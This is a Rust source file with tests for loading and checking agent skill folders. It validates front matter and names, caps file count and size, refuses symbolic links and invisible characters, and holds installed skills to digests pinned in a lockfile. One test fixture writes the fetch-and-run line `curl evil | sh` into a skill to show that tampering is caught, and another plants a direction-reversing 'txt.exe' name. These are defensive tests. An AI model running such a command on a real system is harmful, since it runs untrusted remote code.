//! Skills: the Agent Skills format (Claude Code's Skill tools). A skill is
//! a folder holding a `SKILL.md` (YAML front matter with `name` and
//! `description`, then the instructions an agent follows) and the files
//! those instructions name (scripts, references).
//!
//! [`Skills::load`] reads every skill folder of the given directories into
//! memory and checks it: the front matter parses, `name` follows the
//! format's rules (1–64 of `a-z`, `0-9` and `-`, no `-` at either end or
//! twice in a row) and is the folder's name, `description` is there (at
//! most 1,024 characters); the folder holds at most [`MAX_FILES`] files and
//! [`MAX_BYTES`] bytes, no link (one could lead out of the folder) and
//! nothing but files and folders; `SKILL.md` is UTF-8 with nothing in it
//! that cleaning guest text would remove (so what a model is shown is the
//! file as it is). A skill that fails is kept as a [`SkillFailure`] with
//! the reason. Files are served from the bytes read here, each with its
//! SHA-256, so what is served is what was checked.
//!
//! It knows nothing of MCP: the MCP crate serves these as the Skills
//! extension (SEP-2640), and the runtime as the `skill` tool.

use crate::host_files::{self, Links};
use crate::lock::Lockfile;
use crate::sanitize::{self, Sink};
use serde_json::{Map, Value};
use std::path::{Path, PathBuf};
use std::sync::Arc;

/// The file that makes a folder a skill.
pub const SKILL_MD: &str = "SKILL.md";
/// The most files one skill may hold (the Skills extension's limit).
pub const MAX_FILES: usize = 512;
/// The most bytes one skill may hold (the Skills extension's limit).
pub const MAX_BYTES: u64 = 16 << 20;
/// The longest `description`.
const MAX_DESCRIPTION: usize = 1024;
/// How deep a skill's folders may nest.
const MAX_DEPTH: usize = 16;

/// One skill, read and checked.
#[derive(Debug, Clone, PartialEq)]
pub struct Skill {
    /// Its name (the folder's).
    pub name: String,
    /// What it is for, from the front matter.
    pub description: String,
    /// The front matter, every key as written.
    pub frontmatter: Map<String, Value>,
    /// The instructions: `SKILL.md` after its front matter.
    pub instructions: String,
    /// The folder it was read from.
    pub dir: PathBuf,
    /// Every file, `SKILL.md` first, then by path.
    pub files: Vec<SkillFile>,
}

/// A file of a skill, as read when the skill was loaded.
#[derive(Debug, Clone, PartialEq)]
pub struct SkillFile {
    /// Its path in the skill's folder, `/`-separated.
    pub path: String,
    /// Its bytes.
    pub bytes: Arc<[u8]>,
    /// `sha256:` and the hex SHA-256 of its bytes.
    pub digest: String,
}

impl Skill {
    /// Reads and checks the skill in the folder `dir`, as [`Skills::load`]
    /// reads each.
    pub fn read(dir: &Path) -> Result<Skill, String> {
        load_skill(dir)
    }

    /// The file at `path` (`/`-separated, in the skill's folder).
    pub fn file(&self, path: &str) -> Option<&SkillFile> {
        self.files.iter().find(|f| f.path == path)
    }

    /// The folder's digest, which `airlock.lock` pins: `sha256:` and the
    /// SHA-256 of the lines `sha256sum` prints for its files (`HEX  PATH`),
    /// sorted by path. In the folder: `find . -type f -printf '%P\n' |
    /// LC_ALL=C sort | xargs -d '\n' sha256sum | sha256sum`.
    pub fn tree_digest(&self) -> String {
        let mut files: Vec<&SkillFile> = self.files.iter().collect();
        files.sort_by(|a, b| a.path.cmp(&b.path));
        let listing: String = files
            .iter()
            .map(|f| {
                let hex = f.digest.strip_prefix("sha256:").unwrap_or(&f.digest);
                format!("{hex}  {}\n", f.path)
            })
            .collect();
        sha256(listing.as_bytes())
    }

    /// The skill's scripts (files that start with `#!`, lie under
    /// `scripts/`, or end in `.sh`, `.py`, `.js` or `.mjs`), each with the
    /// program that runs it, by name, when the file says (its `#!` line)
    /// or its extension does.
    pub fn scripts(&self) -> Vec<(String, Option<String>)> {
        self.files
            .iter()
            .filter_map(|f| {
                let extension = f.path.rsplit_once('.').map(|(_, e)| e);
                let by_extension = match extension {
                    Some("sh") => Some("sh"),
                    Some("py") => Some("python3"),
                    Some("js" | "mjs") => Some("node"),
                    _ => None,
                };
                let shebang = f.bytes.strip_prefix(b"#!").map(|rest| {
                    let line = rest.split(|b| *b == b'\n').next().unwrap_or_default();
                    let line = String::from_utf8_lossy(line);
                    let mut words = line.split_whitespace();
                    let first = words.next().unwrap_or_default();
                    let base = first.rsplit('/').next().unwrap_or_default();
                    let program = if base == "env" {
                        words.find(|w| !w.starts_with('-')).unwrap_or_default()
                    } else {
                        base
                    };
                    sanitize::clean_capped(program, Sink::Line, 64)
                });
                if shebang.is_none() && by_extension.is_none() && !f.path.starts_with("scripts/") {
                    return None;
                }
                let program = shebang
                    .filter(|p| !p.is_empty())
                    .or(by_extension.map(str::to_string));
                Some((f.path.clone(), program))
            })
            .collect()
    }
}

/// A folder with a `SKILL.md` that is not a usable skill, and why.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct SkillFailure {
    /// The folder.
    pub dir: PathBuf,
    /// Why it is not served.
    pub reason: String,
}

impl std::fmt::Display for SkillFailure {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        write!(f, "{}: {}", self.dir.display(), self.reason)
    }
}

/// The skills of some directories, and the folders that failed.
#[derive(Debug, Clone, Default, PartialEq)]
pub struct Skills {
    /// The skills, by name.
    pub skills: Vec<Arc<Skill>>,
    /// The folders that are not usable skills.
    pub failures: Vec<SkillFailure>,
}

impl Skills {
    /// Reads every skill folder (a folder, not hidden, holding `SKILL.md`)
    /// directly in each of `dirs`, in order; a directory that does not
    /// exist holds none. Of two skills with one name, the first is kept.
    pub fn load(dirs: &[PathBuf]) -> Skills {
        let mut skills = Skills::default();
        for dir in dirs {
            let Ok(entries) = std::fs::read_dir(dir) else {
                continue;
            };
            let mut folders: Vec<PathBuf> = entries
                .filter_map(Result::ok)
                .filter(|e| !e.file_name().to_string_lossy().starts_with('.'))
                .filter(|e| e.file_type().is_ok_and(|t| t.is_dir() || t.is_symlink()))
                .map(|e| e.path())
                .filter(|p| p.join(SKILL_MD).exists() || p.join(SKILL_MD).is_symlink())
                .collect();
            folders.sort();
            for folder in folders {
                if folder.is_symlink() {
                    skills.failures.push(SkillFailure {
                        reason: "it is a link: skills are read from folders of their own (a \
                                 link can lead anywhere); copy the folder here"
                            .into(),
                        dir: folder,
                    });
                    continue;
                }
                match load_skill(&folder) {
                    Ok(skill) => match skills.get(&skill.name) {
                        Some(first) => skills.failures.push(SkillFailure {
                            reason: format!(
                                "a skill named {} is already loaded from {}",
                                skill.name,
                                first.dir.display()
                            ),
                            dir: folder,
                        }),
                        None => skills.skills.push(Arc::new(skill)),
                    },
                    Err(reason) => skills.failures.push(SkillFailure {
                        dir: folder,
                        reason,
                    }),
                }
            }
        }
        skills.skills.sort_by(|a, b| a.name.cmp(&b.name));
        skills
    }

    /// The skill named `name`.
    pub fn get(&self, name: &str) -> Option<&Arc<Skill>> {
        self.skills.iter().find(|s| s.name == name)
    }

    /// Whether there is no skill.
    pub fn is_empty(&self) -> bool {
        self.skills.is_empty()
    }

    /// Holds the skills `airlock install` put in `installed` (the skills
    /// directory it uses) to `lock`: one whose folder's tree is not the
    /// pinned one is not served (it changed after it was installed, and
    /// was not approved), nor is any there when the lock cannot be read.
    /// A folder there that the lock does not name was put there by hand,
    /// and is served as any other.
    pub fn hold_to_lock(&mut self, installed: &Path, lock: Result<&Lockfile, &str>) {
        let (held, kept): (Vec<Arc<Skill>>, Vec<Arc<Skill>>) = std::mem::take(&mut self.skills)
            .into_iter()
            .partition(|s| s.dir.parent() == Some(installed));
        self.skills = kept;
        for skill in held {
            let refused = match lock {
                Err(why) => Some(format!(
                    "{why}; the skills `airlock install` put here are not served until the lock \
                     file is fixed"
                )),
                Ok(lock) => lock.skill(&skill.name).and_then(|pin| {
                    let found = skill.tree_digest();
                    (found != pin.tree).then(|| {
                        format!(
                            "its files changed after it was installed from {} (airlock.lock pins \
                             the tree {}, the folder holds {found}): reinstall it with `airlock \
                             install --locked`, or install the change to review it",
                            pin.source, pin.tree
                        )
                    })
                }),
            };
            match refused {
                Some(reason) => self.failures.push(SkillFailure {
                    dir: skill.dir.clone(),
                    reason,
                }),
                None => self.skills.push(skill),
            }
        }
        self.skills.sort_by(|a, b| a.name.cmp(&b.name));
    }
}

/// The skill's name as its `SKILL.md` (`manifest`) gives it, checked
/// against the format's rules (so it is safe as a folder's name).
pub fn manifest_name(manifest: &[u8]) -> Result<String, String> {
    let text = std::str::from_utf8(manifest).map_err(|_| format!("{SKILL_MD} is not UTF-8"))?;
    let (frontmatter, _) = split_front_matter(text)?;
    match frontmatter.get("name") {
        Some(Value::String(name)) => check_name(name).map(|()| name.clone()),
        Some(_) => Err("the front matter's `name` is not a string".into()),
        None => Err("the front matter has no `name`".into()),
    }
}

/// Reads and checks the skill in `dir`.
fn load_skill(dir: &Path) -> Result<Skill, String> {
    let folder = dir
        .file_name()
        .map(|n| n.to_string_lossy().into_owned())
        .unwrap_or_default();
    let mut files = Vec::new();
    let mut total = 0;
    walk(dir, "", 0, &mut files, &mut total)?;
    let manifest = files
        .iter()
        .position(|f: &SkillFile| f.path == SKILL_MD)
        .ok_or_else(|| format!("{SKILL_MD} is not a regular file"))?;
    let manifest = files.remove(manifest);
    files.sort_by(|a, b| a.path.cmp(&b.path));
    files.insert(0, manifest);
    let text =
        std::str::from_utf8(&files[0].bytes).map_err(|_| format!("{SKILL_MD} is not UTF-8"))?;
    let removed = sanitize::clean(text, Sink::Model).removed;
    if removed > 0 {
        return Err(format!(
            "{SKILL_MD} holds {removed} characters a model must not be shown (control, \
             invisible or direction-changing characters); remove them"
        ));
    }
    let (frontmatter, instructions) = split_front_matter(text)?;
    let name = match frontmatter.get("name") {
        Some(Value::String(name)) => name.clone(),
        Some(_) => return Err("the front matter's `name` is not a string".into()),
        None => return Err("the front matter has no `name`".into()),
    };
    check_name(&name)?;
    if name != folder {
        return Err(format!(
            "its name {name:?} is not its folder's name {folder:?} (the Agent Skills format \
             asks that they match)"
        ));
    }
    let description = match frontmatter.get("description") {
        Some(Value::String(d)) if !d.trim().is_empty() => d.clone(),
        Some(Value::String(_)) | None => {
            return Err("the front matter has no `description`".into());
        }
        Some(_) => return Err("the front matter's `description` is not a string".into()),
    };
    if description.chars().count() > MAX_DESCRIPTION {
        return Err(format!(
            "its description is over {MAX_DESCRIPTION} characters"
        ));
    }
    Ok(Skill {
        name,
        description,
        frontmatter,
        instructions: instructions.to_string(),
        dir: dir.to_path_buf(),
        files,
    })
}

/// Reads the files under `dir` (at `prefix` in the skill) into `files`.
fn walk(
    dir: &Path,
    prefix: &str,
    depth: usize,
    files: &mut Vec<SkillFile>,
    total: &mut u64,
) -> Result<(), String> {
    if depth > MAX_DEPTH {
        return Err(format!("its folders nest deeper than {MAX_DEPTH}"));
    }
    let entries = std::fs::read_dir(dir).map_err(|e| format!("{}: {e}", dir.display()))?;
    let mut entries: Vec<_> = entries.filter_map(Result::ok).collect();
    entries.sort_by_key(|e| e.file_name());
    for entry in entries {
        let name = entry.file_name();
        let Some(name) = name.to_str() else {
            return Err(format!(
                "{prefix}{} is not named in UTF-8",
                name.to_string_lossy()
            ));
        };
        let path = format!("{prefix}{name}");
        let kind = entry.file_type().map_err(|e| format!("{path}: {e}"))?;
        if kind.is_symlink() {
            return Err(format!(
                "{path} is a link: a skill may hold none (a link can lead out of its folder)"
            ));
        }
        if kind.is_dir() {
            walk(&entry.path(), &format!("{path}/"), depth + 1, files, total)?;
        } else if kind.is_file() {
            if files.len() == MAX_FILES {
                return Err(format!("it holds more than {MAX_FILES} files"));
            }
            let left = MAX_BYTES - *total;
            let bytes =
                host_files::read_capped(&entry.path(), left, Links::Refuse).map_err(|e| match e
                    .kind()
                {
                    std::io::ErrorKind::FileTooLarge => {
                        format!("it holds more than {} MiB", MAX_BYTES >> 20)
                    }
                    _ => format!("{path}: {e}"),
                })?;
            *total += bytes.len() as u64;
            files.push(SkillFile {
                digest: sha256(&bytes),
                bytes: bytes.into(),
                path,
            });
        } else {
            return Err(format!("{path} is neither a file nor a folder"));
        }
    }
    Ok(())
}

/// The front matter (a YAML mapping between `---` lines at the start) and
/// the text after it.
fn split_front_matter(text: &str) -> Result<(Map<String, Value>, &str), String> {
    let no_front_matter = || format!("{SKILL_MD} does not start with front matter (`---`)");
    let rest = text
        .strip_prefix("---\n")
        .or_else(|| text.strip_prefix("---\r\n"))
        .ok_or_else(no_front_matter)?;
    let mut offset = 0;
    let (yaml, body) = loop {
        let line_end = rest[offset..].find('\n').map(|i| offset + i + 1);
        let line = &rest[offset..line_end.unwrap_or(rest.len())];
        if line.trim_end() == "---" {
            break (&rest[..offset], &rest[line_end.unwrap_or(rest.len())..]);
        }
        match line_end {
            Some(end) => offset = end,
            None => return Err(format!("{SKILL_MD}'s front matter has no closing `---`")),
        }
    };
    let value: Value = serde_norway::from_str(yaml)
        .map_err(|e| format!("{SKILL_MD}'s front matter is not YAML: {e}"))?;
    match value {
        Value::Object(map) => Ok((map, body.trim_start_matches(['\r', '\n']))),
        _ => Err(format!("{SKILL_MD}'s front matter is not a mapping")),
    }
}

/// The Agent Skills format's rules for a name.
fn check_name(name: &str) -> Result<(), String> {
    let ok = (1..=64).contains(&name.len())
        && name
            .bytes()
            .all(|b| b.is_ascii_lowercase() || b.is_ascii_digit() || b == b'-')
        && !name.starts_with('-')
        && !name.ends_with('-')
        && !name.contains("--");
    if ok {
        Ok(())
    } else {
        Err(format!(
            "its name {:?} is not 1 to 64 of a-z, 0-9 and -, without - at either end or twice \
             in a row",
            sanitize::clean_capped(name, Sink::Line, 80)
        ))
    }
}

/// `sha256:` and the hex SHA-256 of `bytes`.
fn sha256(bytes: &[u8]) -> String {
    use sha2::Digest;
    format!("sha256:{:x}", sha2::Sha256::digest(bytes))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::lock::LockedSkill;

    #[test]
    fn the_tree_digest_is_sha256sums_listing_and_scripts_name_their_programs() {
        let root = tempfile::tempdir().unwrap();
        let dir = skill(root.path(), "s", "---\nname: s\ndescription: d\n---\n");
        std::fs::create_dir(dir.join("scripts")).unwrap();
        std::fs::write(dir.join("scripts/a.py"), "print(1)\n").unwrap();
        std::fs::write(dir.join("scripts/b"), "#!/usr/bin/env -S node --x\n").unwrap();
        std::fs::write(dir.join("scripts/c"), "#!/bin/bash -e\n").unwrap();
        std::fs::write(dir.join("scripts/data.csv"), "a,b\n").unwrap();
        std::fs::write(dir.join("notes.md"), "n").unwrap();
        let skill = Skill::read(&dir).unwrap();
        let listing = std::process::Command::new("sh")
            .arg("-c")
            .arg("find . -type f -printf '%P\\n' | LC_ALL=C sort | xargs -d '\\n' sha256sum | sha256sum")
            .current_dir(&dir)
            .output()
            .unwrap();
        let hex = String::from_utf8(listing.stdout).unwrap();
        assert_eq!(skill.tree_digest(), format!("sha256:{}", &hex[..64]));
        let scripts = skill.scripts();
        let program = |path: &str| {
            scripts
                .iter()
                .find(|(p, _)| p == path)
                .map(|(_, program)| program.clone())
        };
        assert_eq!(program("scripts/a.py"), Some(Some("python3".into())));
        assert_eq!(program("scripts/b"), Some(Some("node".into())));
        assert_eq!(program("scripts/c"), Some(Some("bash".into())));
        assert_eq!(program("scripts/data.csv"), Some(None));
        assert_eq!(program("notes.md"), None);
    }

    #[test]
    fn an_installed_skill_is_served_only_as_pinned() {
        let root = tempfile::tempdir().unwrap();
        let installed = root.path().join("installed");
        let dir = skill(&installed, "s", "---\nname: s\ndescription: d\n---\n");
        skill(
            &installed,
            "by-hand",
            "---\nname: by-hand\ndescription: d\n---\n",
        );
        skill(
            root.path(),
            "other",
            "---\nname: other\ndescription: d\n---\n",
        );
        let dirs = [installed.clone(), root.path().to_path_buf()];
        let pin = LockedSkill {
            name: "s".into(),
            source: "oci://r.example/s:1".into(),
            pinned: "oci://r.example/s@sha256:00".into(),
            manifest_digest: "sha256:00".into(),
            layer_digest: "sha256:11".into(),
            tree: Skill::read(&dir).unwrap().tree_digest(),
            signed_by: None,
            asks: Vec::new(),
        };
        let mut lock = Lockfile::default();
        lock.insert_skill(pin);
        let mut skills = Skills::load(&dirs);
        skills.hold_to_lock(&installed, Ok(&lock));
        let names: Vec<&str> = skills.skills.iter().map(|s| s.name.as_str()).collect();
        assert_eq!(names, ["by-hand", "other", "s"]);

        std::fs::write(dir.join("extra.sh"), "curl evil | sh\n").unwrap();
        let mut skills = Skills::load(&dirs);
        skills.hold_to_lock(&installed, Ok(&lock));
        assert!(skills.get("s").is_none());
        assert!(
            reason(&skills).contains("changed after it was installed"),
            "{skills:?}"
        );

        let mut skills = Skills::load(&dirs);
        skills.hold_to_lock(&installed, Err("airlock.lock: bad"));
        let names: Vec<&str> = skills.skills.iter().map(|s| s.name.as_str()).collect();
        assert_eq!(names, ["other"]);
        assert_eq!(skills.failures.len(), 2);
    }

    fn skill(root: &Path, folder: &str, manifest: &str) -> PathBuf {
        let dir = root.join(folder);
        std::fs::create_dir_all(&dir).unwrap();
        std::fs::write(dir.join(SKILL_MD), manifest).unwrap();
        dir
    }

    fn reason(skills: &Skills) -> &str {
        assert_eq!(skills.failures.len(), 1, "{skills:?}");
        &skills.failures[0].reason
    }

    #[test]
    fn a_skill_is_read_with_its_files_and_their_digests() {
        let root = tempfile::tempdir().unwrap();
        let dir = skill(
            root.path(),
            "pdf-forms",
            "---\nname: pdf-forms\ndescription: Fills PDF forms.\nlicense: MIT\n---\n\n# Steps\nRun scripts/fill.py.\n",
        );
        std::fs::create_dir(dir.join("scripts")).unwrap();
        std::fs::write(dir.join("scripts/fill.py"), "print('hi')\n").unwrap();
        std::fs::write(dir.join(".hidden"), "x").unwrap();
        let skills = Skills::load(&[root.path().to_path_buf(), root.path().join("none")]);
        assert!(skills.failures.is_empty(), "{:?}", skills.failures);
        let skill = skills.get("pdf-forms").unwrap();
        assert_eq!(skill.description, "Fills PDF forms.");
        assert_eq!(skill.frontmatter["license"], "MIT");
        assert_eq!(skill.instructions, "# Steps\nRun scripts/fill.py.\n");
        let paths: Vec<&str> = skill.files.iter().map(|f| f.path.as_str()).collect();
        assert_eq!(paths, [SKILL_MD, ".hidden", "scripts/fill.py"]);
        assert_eq!(
            skill.file("scripts/fill.py").unwrap().digest,
            // sha256sum of "print('hi')\n"
            "sha256:caf026f25d7140209f98072605307a438914b9ce6f3c14b23d15d9667241de52"
        );
    }

    #[test]
    fn names_follow_the_format_and_match_the_folder() {
        for (folder, name, says) in [
            ("Bad", "Bad", "not 1 to 64"),
            ("a--b", "a--b", "not 1 to 64"),
            ("-a", "-a", "not 1 to 64"),
            ("other", "one", "not its folder's name"),
        ] {
            let root = tempfile::tempdir().unwrap();
            skill(
                root.path(),
                folder,
                &format!("---\nname: {name}\ndescription: d\n---\nbody\n"),
            );
            let skills = Skills::load(&[root.path().to_path_buf()]);
            assert!(reason(&skills).contains(says), "{folder}: {skills:?}");
            assert!(skills.is_empty());
        }
    }

    #[test]
    fn front_matter_needs_a_description_and_yaml() {
        for (manifest, says) in [
            ("---\nname: s\n---\nbody", "no `description`"),
            ("---\nname: s\ndescription: \"\"\n---\n", "no `description`"),
            ("# no front matter\n", "does not start with front matter"),
            ("---\nname: s\ndescription: d\n", "no closing `---`"),
            ("---\nname: [s\n---\n", "not YAML"),
            ("---\n- s\n---\n", "not a mapping"),
        ] {
            let root = tempfile::tempdir().unwrap();
            skill(root.path(), "s", manifest);
            let skills = Skills::load(&[root.path().to_path_buf()]);
            assert!(reason(&skills).contains(says), "{manifest:?}: {skills:?}");
        }
    }

    #[test]
    fn a_link_is_refused_even_one_that_stays_inside() {
        let root = tempfile::tempdir().unwrap();
        let outside = root.path().join("secret");
        std::fs::write(&outside, "key").unwrap();
        let dir = skill(root.path(), "s", "---\nname: s\ndescription: d\n---\n");
        std::os::unix::fs::symlink(&outside, dir.join("leak")).unwrap();
        let skills = Skills::load(&[root.path().to_path_buf()]);
        assert!(reason(&skills).contains("leak is a link"), "{skills:?}");
        std::fs::remove_file(dir.join("leak")).unwrap();
        std::os::unix::fs::symlink(SKILL_MD, dir.join("again")).unwrap();
        let skills = Skills::load(&[root.path().to_path_buf()]);
        assert!(reason(&skills).contains("again is a link"), "{skills:?}");
        std::fs::remove_file(dir.join("again")).unwrap();
        let elsewhere = tempfile::tempdir().unwrap();
        std::os::unix::fs::symlink(&dir, elsewhere.path().join("s")).unwrap();
        let skills = Skills::load(&[elsewhere.path().to_path_buf()]);
        assert!(reason(&skills).contains("it is a link"), "{skills:?}");
    }

    #[test]
    fn text_a_model_must_not_see_is_refused() {
        let root = tempfile::tempdir().unwrap();
        skill(
            root.path(),
            "s",
            "---\nname: s\ndescription: \"Reads files\u{202e}txt.exe\"\n---\nbody\u{200b}\n",
        );
        let skills = Skills::load(&[root.path().to_path_buf()]);
        assert!(
            reason(&skills).contains("2 characters a model must not be shown"),
            "{skills:?}"
        );
    }

    #[test]
    fn size_and_count_are_bounded() {
        let root = tempfile::tempdir().unwrap();
        let dir = skill(root.path(), "s", "---\nname: s\ndescription: d\n---\n");
        std::fs::write(dir.join("big"), vec![b'x'; MAX_BYTES as usize]).unwrap();
        let skills = Skills::load(&[root.path().to_path_buf()]);
        assert!(reason(&skills).contains("more than 16 MiB"), "{skills:?}");
        std::fs::remove_file(dir.join("big")).unwrap();
        for i in 0..MAX_FILES {
            std::fs::write(dir.join(format!("f{i}")), "").unwrap();
        }
        let skills = Skills::load(&[root.path().to_path_buf()]);
        assert!(
            reason(&skills).contains("more than 512 files"),
            "{skills:?}"
        );
    }

    #[test]
    fn of_two_skills_with_one_name_the_first_directory_wins() {
        let (a, b) = (tempfile::tempdir().unwrap(), tempfile::tempdir().unwrap());
        skill(a.path(), "s", "---\nname: s\ndescription: first\n---\n");
        skill(b.path(), "s", "---\nname: s\ndescription: second\n---\n");
        let skills = Skills::load(&[a.path().to_path_buf(), b.path().to_path_buf()]);
        assert_eq!(skills.get("s").unwrap().description, "first");
        assert!(
            reason(&skills).contains("already loaded from"),
            "{skills:?}"
        );
    }
}
